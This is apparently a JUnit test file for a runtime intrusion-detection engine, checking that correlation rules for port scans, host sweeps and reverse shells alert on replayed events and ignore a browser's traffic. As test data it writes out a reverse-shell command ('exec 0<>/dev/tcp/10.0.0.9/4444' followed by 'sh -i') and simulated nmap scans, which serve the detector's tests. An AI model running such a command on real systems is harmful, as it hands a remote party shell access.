package dev.vigil.agent;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.events.Container;
import dev.vigil.events.Event;
import dev.vigil.events.EventType;
import dev.vigil.events.EventView;
import dev.vigil.events.Fd;
import dev.vigil.events.Process;
import dev.vigil.rules.correlation.Correlation;
import dev.vigil.rules.engine.AlertSink;
import dev.vigil.rules.engine.CompiledRule;
import dev.vigil.rules.engine.EngineOptions;
import dev.vigil.rules.engine.RulesEngine;
import dev.vigil.rules.output.Alert;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/** The bundled correlation rules, loaded by default beside the stable Falco rules, on replayed events. */
class ShippedCorrelationsTest {
    static final long T0 = 1_700_000_000_000_000_000L, MS = 1_000_000L;

    static RulesEngine engine() {
        RulesEngine e = new RulesEngine(EngineOptions.defaults().withHostname("h"));
        new RuleFiles(List.of()).loadInto(e);
        return e;
    }

    static List<Alert> replay(List<Event> events) {
        RulesEngine e = engine();
        List<Alert> out = new ArrayList<>();
        AlertSink sink = new AlertSink() {
            @Override public void onMatch(CompiledRule rule, EventView ev) { }

            @Override public void onCorrelation(Correlation c, Alert a, EventView ev) { out.add(a); }
        };
        for (Event ev : events) e.evaluate(ev, sink);
        return out;
    }

    static Process proc(int pid, String name, String exe, String... argv) {
        return Process.builder().pid(pid).ppid(1).name(name).exePath(exe).argv(argv.length == 0 ? new String[] {name} : argv)
                .user(1000, "alice").group(1000, "alice").cwd("/home/alice").build();
    }

    static Event connect(long t, Process p, String dst, int port) {
        return Event.builder(EventType.CONNECT).timestamp(t).res(-115).process(p).container(Container.HOST)
                .fd(Fd.tcp4(3, "10.0.0.1", 40000, dst, port)).build();
    }

    static List<String> rules(List<Alert> l) { return l.stream().map(Alert::rule).toList(); }

    @Test
    void loadedByDefaultWithTheStableRules() {
        RulesEngine e = engine();
        assertThat(e.current().correlations().enabled()).extracting(Correlation::name).containsExactly("Outbound Port Scan",
                "Host Sweep", "Inbound Port Scan", "Outbound Connection Burst", "Download Then Execute", "Temporary File Executed",
                "Reverse Shell", "Repeated Failed Privilege Escalation");
        assertThat(e.current().enabledRules()).hasSizeGreaterThan(20);
        assertThat(e.requiredEventTypes()).contains(EventType.TCP_SEND_RESET, EventType.CONNECT, EventType.DUP2, EventType.SETUID);
    }

    @Test
    void scansAndSweepsAlertAndABrowserStaysSilent() {
        Process nmap = proc(2000, "nmap", "/usr/bin/nmap");
        List<Event> l = new ArrayList<>();
        for (int i = 0; i < 25; i++) l.add(connect(T0 + i * MS, nmap, "10.0.0.5", 1 + i));
        for (int i = 0; i < 12; i++) l.add(connect(T0 + 100 * MS + i * MS, nmap, "10.0.1." + (i + 1), 22));
        Process firefox = proc(3000, "firefox", "/usr/lib/firefox/firefox");
        for (int i = 0; i < 300; i++) l.add(connect(T0 + i * MS, firefox, "10.0.2.1", 443));
        List<Alert> a = replay(l);
        assertThat(rules(a)).containsExactly("Outbound Port Scan", "Host Sweep");
        assertThat(a.get(0).output()).contains("dest=10.0.0.5 ports=20 sample=1,2,3,4,5,6,7,8,9,10 window=10s proc=/usr/bin/nmap");
        assertThat(a.get(1).output()).contains("port=22 hosts=10 sample=10.0.0.5,10.0.1.1,10.0.1.2");
    }

    @Test
    void inboundResetsFromOneSourceAlert() {
        List<Event> l = new ArrayList<>();
        for (int i = 0; i < 20; i++) {
            l.add(Event.builder(EventType.TCP_SEND_RESET).timestamp(T0 + i * MS).arg("reason", 1)
                    .fd(Fd.tcp4(-1, "203.0.113.9", 50000, "203.0.113.1", 1000 + i)).build());
        }
        // the same closed port retried by another client: one port
        for (int i = 0; i < 50; i++) {
            l.add(Event.builder(EventType.TCP_SEND_RESET).timestamp(T0 + i * MS).fd(Fd.tcp4(-1, "203.0.113.7", 50000 + i, "203.0.113.1", 8080)).build());
        }
        List<Alert> a = replay(l);
        assertThat(rules(a)).containsExactly("Inbound Port Scan");
        assertThat(a.getFirst().output()).contains("source=203.0.113.9 closed_ports=20 sample=1000,1001");
    }

    @Test
    void reverseShellChainAlertsAndAPlainConnectingShellDoesNot() {
        Process bash = proc(4000, "bash", "/usr/bin/bash", "bash", "-c", "exec 0<>/dev/tcp/10.0.0.9/4444");
        Event conn = connect(T0, bash, "10.0.0.9", 4444);
        Event dup = Event.builder(EventType.DUP2).timestamp(T0 + MS).res(0).process(bash).container(Container.HOST)
                .arg("oldfd", 3).arg("newfd", 0).fd(Fd.tcp4(0, "10.0.0.1", 40000, "10.0.0.9", 4444)).build();
        Process sh = proc(4000, "sh", "/usr/bin/dash", "sh", "-i");
        Event exec = Event.builder(EventType.EXECVE).timestamp(T0 + 2 * MS).res(0).process(sh).container(Container.HOST).build();
        List<Alert> a = replay(List.of(conn, dup, exec));
        assertThat(rules(a)).containsExactly("Reverse Shell");
        assertThat(a.getFirst().output()).contains("Reverse shell (remote=10.0.0.9:4444 shell=/usr/bin/dash cmdline=sh -i was=/usr/bin/bash pid=4000");
        assertThat(replay(List.of(conn, exec))).isEmpty();
    }
}
